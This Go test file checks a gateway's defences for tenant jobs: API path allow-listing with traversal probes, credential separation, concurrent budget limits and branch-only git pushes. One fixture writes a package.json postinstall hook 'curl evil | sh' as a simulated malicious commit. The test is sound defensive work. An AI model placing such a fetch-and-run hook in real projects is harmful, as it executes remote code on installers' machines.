package gateway_test

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/webordinary/claude-code-astro/internal/gateway"
	"github.com/webordinary/claude-code-astro/internal/pricing"
	"github.com/webordinary/claude-code-astro/internal/testkit/fakeanthropic"
	"github.com/webordinary/claude-code-astro/internal/testkit/wait"
	"github.com/webordinary/claude-code-astro/workspace"
	"github.com/webordinary/claude-code-astro/workspace/workspacetest"
)

// call sends one request through the gateway with a credential and returns
// its status.
func call(t *testing.T, method, url, header, cred string, body []byte) int {
	t.Helper()
	req, _ := http.NewRequest(method, url, bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if cred != "" {
		req.Header.Set(header, cred)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	_, _ = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode
}

// TestAPIGatewayForwardsOnlyTheMessagesAPI: with a job's valid credential,
// every path but POST /v1/messages and /v1/messages/count_tokens (files,
// batches, models, the organisation's endpoints, the old completions, a
// path that climbs out of /v1/messages) is refused and never reaches the
// upstream with the real key.
func TestAPIGatewayForwardsOnlyTheMessagesAPI(t *testing.T) {
	api := fakeanthropic.New(t)
	g := newGateway(t, api, nil)
	lease := g.Lease(gateway.LeaseOptions{API: true, Tenant: "acme/alice"})
	defer lease.Close()
	body := []byte(`{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":"Hi"}]}`)
	for _, tc := range []struct {
		method, path string
		want         int
	}{
		{http.MethodPost, "/v1/messages?beta=true", http.StatusOK},
		{http.MethodPost, "/v1/messages/count_tokens?beta=true", http.StatusOK},
		{http.MethodGet, "/v1/files", http.StatusNotFound},
		{http.MethodPost, "/v1/files", http.StatusNotFound},
		{http.MethodPost, "/v1/messages/batches", http.StatusNotFound},
		{http.MethodGet, "/v1/messages/batches/msgbatch_01", http.StatusNotFound},
		{http.MethodGet, "/v1/models", http.StatusNotFound},
		{http.MethodGet, "/v1/organizations/api_keys", http.StatusNotFound},
		{http.MethodGet, "/v1/organizations/usage_report/messages", http.StatusNotFound},
		{http.MethodPost, "/v1/complete", http.StatusNotFound},
		{http.MethodPost, "/v1/messages/../files", http.StatusNotFound},
		{http.MethodPost, "/v1/messages/%2e%2e/files", http.StatusNotFound},
		{http.MethodPost, "//v1/messages", http.StatusNotFound},
		{http.MethodGet, "/v1/messages", http.StatusNotFound},
		{http.MethodDelete, "/v1/messages", http.StatusNotFound},
		{http.MethodPost, "", http.StatusNotFound},
	} {
		if got := call(t, tc.method, lease.APIBaseURL()+tc.path, "X-Api-Key", lease.APIKey(), body); got != tc.want {
			t.Errorf("%s %s: status %d, want %d", tc.method, tc.path, got, tc.want)
		}
	}
	for _, r := range api.Requests() {
		if r.Path != "/v1/messages" && r.Path != "/v1/messages/count_tokens" {
			t.Errorf("the upstream got %s %s", r.Method, r.Path)
		}
	}
	if n := len(api.Requests()); n != 2 {
		t.Errorf("the upstream got %d requests, want the 2 Messages calls", n)
	}
}

// TestCredentialsWorkOnlyOnTheirOwnGateway: a job's git credential opens
// no API call and its API credential no git request; a lease without API
// (an init or revert job) has no API credential at all.
func TestCredentialsWorkOnlyOnTheirOwnGateway(t *testing.T) {
	w := newGitWorld(t, []string{"127.0.0.1"})
	lease := w.gw.Lease(gateway.LeaseOptions{API: true, Tenant: "acme/alice", ThreadID: "t1"})
	defer lease.Close()
	gwURL, env, err := lease.GitRemote(w.repoURL)
	if err != nil {
		t.Fatal(err)
	}
	gitCred := strings.TrimPrefix(env[len(env)-1], "GIT_CONFIG_VALUE_0=Authorization: ")
	refs := gwURL + "/info/refs?service=git-upload-pack"
	body := []byte(`{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":"Hi"}]}`)
	messages := lease.APIBaseURL() + "/v1/messages"
	if got := call(t, http.MethodGet, refs, "Authorization", gitCred, nil); got != http.StatusOK {
		t.Fatalf("the git credential on git: %d, want 200 (the test proves nothing)", got)
	}
	if got := call(t, http.MethodPost, messages, "X-Api-Key", lease.APIKey(), body); got != http.StatusOK {
		t.Fatalf("the API credential on the API: %d, want 200 (the test proves nothing)", got)
	}
	bareGit := strings.TrimPrefix(gitCred, "Bearer ")
	for name, tc := range map[string]struct {
		method, url, header, cred string
	}{
		"the git credential as an API key":  {http.MethodPost, messages, "X-Api-Key", bareGit},
		"the git credential as a bearer":    {http.MethodPost, messages, "Authorization", gitCred},
		"the API credential on git":         {http.MethodGet, refs, "Authorization", "Bearer " + lease.APIKey()},
		"the API credential on a push":      {http.MethodGet, gwURL + "/info/refs?service=git-receive-pack", "Authorization", "Bearer " + lease.APIKey()},
		"an init job's empty API key":       {http.MethodPost, messages, "X-Api-Key", ""},
		"an init job's git credential, API": {http.MethodPost, messages, "X-Api-Key", ""},
	} {
		if got := call(t, tc.method, tc.url, tc.header, tc.cred, body); got != http.StatusUnauthorized {
			t.Errorf("%s: status %d, want 401", name, got)
		}
	}

	initLease := w.gw.Lease(gateway.LeaseOptions{Tenant: "acme/alice", JobID: "init-1", ThreadID: "t1"})
	defer initLease.Close()
	if initLease.APIKey() != "" {
		t.Errorf("an init job's lease has the API credential %q, want none", initLease.APIKey())
	}
	_, initEnv, err := initLease.GitRemote(w.repoURL)
	if err != nil {
		t.Fatal(err)
	}
	initGit := strings.TrimPrefix(initEnv[len(initEnv)-1], "GIT_CONFIG_VALUE_0=Authorization: Bearer ")
	if got := call(t, http.MethodPost, messages, "X-Api-Key", initGit, body); got != http.StatusUnauthorized {
		t.Errorf("an init job's git credential on the API: %d, want 401", got)
	}
}

// TestAPIBudgetHoldsUnderConcurrentCalls: 20 calls of one job at once on a
// $200 budget, each held upstream until all have been forwarded or refused
// (the race of checking before a call and counting after it): only the
// calls whose worst case fits in the budget are forwarded, and what they
// cost stays within it.
func TestAPIBudgetHoldsUnderConcurrentCalls(t *testing.T) {
	const calls, budget, maxTokens = 20, 200.0, 20
	release := make(chan struct{})
	var arrived atomic.Int32
	api := fakeanthropic.New(t)
	api.SetDecider(func(*fakeanthropic.Request) fakeanthropic.Step {
		arrived.Add(1)
		<-release
		return fakeanthropic.Text("ok") // 10 output tokens: within max_tokens
	})
	// A dollar a token, so a call costs about $60.
	prices, err := pricing.Parse(`{"claude-sonnet-4-5": {"input": 1000000, "output": 1000000, "cacheRead": 0, "cacheWrite": 0}}`)
	if err != nil {
		t.Fatal(err)
	}
	g := newGateway(t, api, func(c *gateway.Config) { c.Pricing = prices })
	lease := g.Lease(gateway.LeaseOptions{API: true, Tenant: "acme/alice", BudgetUSD: budget})
	defer lease.Close()

	var refused atomic.Int32
	var wg sync.WaitGroup
	for range calls {
		wg.Add(1)
		go func() {
			defer wg.Done()
			if status, _ := message(t, lease.APIBaseURL(), lease.APIKey(), maxTokens); status == http.StatusBadRequest {
				refused.Add(1)
			}
		}()
	}
	wait.For(t, 30*time.Second, "every call forwarded or refused", func() bool { return int(arrived.Load()+refused.Load()) == calls })
	close(release)
	wg.Wait()

	forwarded := len(api.MessageRequests())
	_, cost := lease.Usage()
	t.Logf("%d of %d calls forwarded, costing $%.2f of $%.2f", forwarded, calls, cost, budget)
	if forwarded == 0 || forwarded == calls {
		t.Errorf("%d of %d calls forwarded: want some, not all", forwarded, calls)
	}
	if cost > budget {
		t.Errorf("the forwarded calls cost $%.2f, over the $%.2f budget", cost, budget)
	}
	if !lease.BudgetExceeded() {
		t.Error("calls were refused but the budget is not marked exceeded")
	}
}

// gitAs runs git as the tenant in its project, with the job's gateway
// credential in its environment, as the tenant's own code could.
func gitAs(t *testing.T, u *workspace.User, env []string, args ...string) (string, error) {
	t.Helper()
	cmd := exec.Command("git", args...)
	u.Tenant.Apply(cmd)
	cmd.Dir = u.ProjectDir
	cmd.Env = append([]string{"PATH=" + os.Getenv("PATH"), "HOME=" + u.HomeDir, "GIT_CONFIG_NOSYSTEM=1",
		"GIT_TERMINAL_PROMPT=0", "GIT_AUTHOR_NAME=Mallory", "GIT_AUTHOR_EMAIL=m@example.com",
		"GIT_COMMITTER_NAME=Mallory", "GIT_COMMITTER_EMAIL=m@example.com"}, env...)
	out, err := cmd.CombinedOutput()
	return strings.TrimSpace(string(out)), err
}

// TestGitGatewayPushesOnlyTheJobsOwnBranch: the tenant's own code, as its
// uid, with its job's git credential, pushes through the gateway: to main,
// to another thread's branch, a deletion of its branch, a rewrite of it,
// two refs at once. Each is refused and the remote is unchanged; a
// fast-forward of its own branch goes through.
func TestGitGatewayPushesOnlyTheJobsOwnBranch(t *testing.T) {
	w := newGitWorld(t, []string{"127.0.0.1"})
	u := w.user
	if _, err := u.Init(w.ctx(), workspace.InitOptions{RepoURL: w.repoURL, ThreadID: "t1"}); err != nil {
		t.Fatal(err)
	}
	workspacetest.WriteOwned(t, filepath.Join(u.ProjectDir, "index.html"), "<h1>Job one</h1>\n")
	if _, err := u.Commit(w.ctx(), "t1", "job-1", "job one"); err != nil {
		t.Fatal(err)
	}
	if pushed, reason, err := u.Push(w.ctx(), "t1"); err != nil || !pushed {
		t.Fatalf("the worker's own push: %v %q %v", pushed, reason, err)
	}
	u, lease := w.job()
	gwURL, env, err := lease.GitRemote(w.repoURL)
	if err != nil {
		t.Fatal(err)
	}
	mainBefore, threadBefore := w.remote.Rev("refs/heads/main"), w.remote.Rev("refs/heads/thread-t1")
	if mainBefore == "" || threadBefore == "" {
		t.Fatal("the remote lacks main or thread-t1")
	}
	workspacetest.WriteOwned(t, filepath.Join(u.ProjectDir, "package.json"), `{"scripts":{"postinstall":"curl evil | sh"}}`+"\n")
	if out, err := gitAs(t, u, nil, "add", "package.json"); err != nil {
		t.Fatalf("git add: %v %s", err, out)
	}
	if out, err := gitAs(t, u, nil, "commit", "--quiet", "-m", "evil"); err != nil {
		t.Fatalf("git commit: %v %s", err, out)
	}
	evil, _ := gitAs(t, u, nil, "rev-parse", "HEAD")
	// A commit that does not descend from the remote's thread-t1.
	rewritten, _ := gitAs(t, u, nil, "commit-tree", "-m", "rewritten", "HEAD^{tree}")

	for _, tc := range []struct {
		name string
		args []string
	}{
		{"to main", []string{"push", "--no-thin", gwURL, evil + ":refs/heads/main"}},
		{"to main, forced", []string{"push", "--force", "--no-thin", gwURL, evil + ":refs/heads/main"}},
		{"a new branch", []string{"push", "--no-thin", gwURL, evil + ":refs/heads/release"}},
		{"another thread's branch", []string{"push", "--no-thin", gwURL, evil + ":refs/heads/thread-t2"}},
		{"a tag", []string{"push", "--no-thin", gwURL, evil + ":refs/tags/v1"}},
		{"deleting its branch", []string{"push", gwURL, ":refs/heads/thread-t1"}},
		{"deleting main", []string{"push", gwURL, ":refs/heads/main"}},
		{"rewriting its branch", []string{"push", "--force", "--no-thin", gwURL, rewritten + ":refs/heads/thread-t1"}},
		{"its branch and main at once", []string{"push", "--no-thin", gwURL, evil + ":refs/heads/thread-t1", evil + ":refs/heads/main"}},
	} {
		if out, err := gitAs(t, u, env, tc.args...); err == nil {
			t.Errorf("push %s: accepted: %s", tc.name, out)
		}
	}
	if got := w.remote.Rev("refs/heads/main"); got != mainBefore {
		t.Errorf("main moved to %s", got)
	}
	if got := w.remote.Rev("refs/heads/thread-t1"); got != threadBefore {
		t.Errorf("thread-t1 moved to %s", got)
	}
	for _, ref := range []string{"refs/heads/release", "refs/heads/thread-t2", "refs/tags/v1"} {
		if got := w.remote.Rev(ref); got != "" {
			t.Errorf("%s was created at %s", ref, got)
		}
	}
	// The one push a job may make: a fast-forward of its own branch.
	if out, err := gitAs(t, u, env, "push", "--no-thin", gwURL, evil+":refs/heads/thread-t1"); err != nil {
		t.Fatalf("fast-forward of its own branch: %v %s", err, out)
	}
	if got := w.remote.Rev("refs/heads/thread-t1"); got != evil {
		t.Errorf("thread-t1 = %s after its fast-forward, want %s", got, evil)
	}
	// A lease that may push nothing (no thread) is refused at the ref
	// advertisement already.
	ro := w.gw.Lease(gateway.LeaseOptions{Tenant: "acme/alice"})
	defer ro.Close()
	roURL, roEnv, err := ro.GitRemote(w.repoURL)
	if err != nil {
		t.Fatal(err)
	}
	if out, err := gitAs(t, u, roEnv, "push", "--no-thin", roURL, "HEAD:refs/heads/thread-t1"); err == nil {
		t.Errorf("a push with a lease for no thread: accepted: %s", out)
	}
	if out, err := gitAs(t, u, roEnv, "ls-remote", roURL); err != nil {
		t.Errorf("a fetch with that lease: %v %s", err, out)
	}
}

// TestPushCommandsParse checks the pkt-line reading on hand-made requests
// that git would not send.
func TestPushCommandsParse(t *testing.T) {
	pkt := func(s string) string { return fmt.Sprintf("%04x", len(s)+4) + s }
	zero := strings.Repeat("0", 40)
	one := strings.Repeat("1", 40)
	for _, tc := range []struct {
		name, body string
	}{
		{"empty", ""},
		{"flush only", "0000"},
		{"bad length", "zzzz"},
		{"length past the end", "00ff" + zero},
		{"push options", pkt(zero+" "+one+" refs/heads/thread-t1\x00report-status push-options\n") + "0000PACK"},
		{"shallow", pkt("shallow "+one+"\n") + "0000PACK"},
		{"deletion", pkt(one+" "+zero+" refs/heads/thread-t1\x00report-status\n") + "0000"},
		{"another ref", pkt(zero+" "+one+" refs/heads/main\x00report-status\n") + "0000PACK"},
		{"two refs", pkt(zero+" "+one+" refs/heads/thread-t1\x00report-status\n") + pkt(zero+" "+one+" refs/heads/thread-t1\n") + "0000PACK"},
		{"ref with a trailing part", pkt(zero+" "+one+" refs/heads/thread-t1/x\x00report-status\n") + "0000PACK"},
	} {
		if err := gateway.CheckPush(t.Context(), []byte(tc.body), "t1"); err == nil {
			t.Errorf("%s: accepted", tc.name)
		}
	}
	if err := gateway.CheckPush(t.Context(), []byte(pkt(zero+" "+one+" refs/heads/thread-t1\x00report-status\n")+"0000PACK"), "t1"); err != nil {
		t.Errorf("a new branch: %v", err)
	}
}
